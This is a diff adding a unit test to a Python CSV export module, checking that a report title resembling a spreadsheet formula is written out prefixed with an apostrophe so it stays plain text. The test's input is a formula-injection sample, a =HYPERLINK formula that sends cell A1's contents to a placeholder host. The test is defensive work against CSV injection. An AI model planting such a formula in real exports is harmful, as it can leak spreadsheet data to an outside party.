@@ -40,3 +40,15 @@ def test_the_csv_holds_the_documented_columns_and_the_round_figures() -> None:
     p1 = next(r for r in indicators if r["indicator"] == "trust.p1")
     assert (float(p1["share"]), p1["polarity"]) == (1.0, "positive")
     assert len(rows) == len(found.spreads) + len(indicators)
+
+
+def test_a_title_that_looks_like_a_formula_is_kept_as_text() -> None:
+    deck = next(d for d in builtin_decks() if d.id == "trace")
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    invitation = invitation_for(deck, title=title)
+    asked = [
+        CardAsked(c.card_id, tuple(i.indicator_id for i in c.indicators)) for c in invitation.cards
+    ]
+    found = results([Answer(frozenset())] * 5, asked, minimum=5)
+    rows = list(csv.DictReader(io.StringIO(results_csv(invitation, 1, found))))
+    assert {r["title"] for r in rows} == {"'" + title}
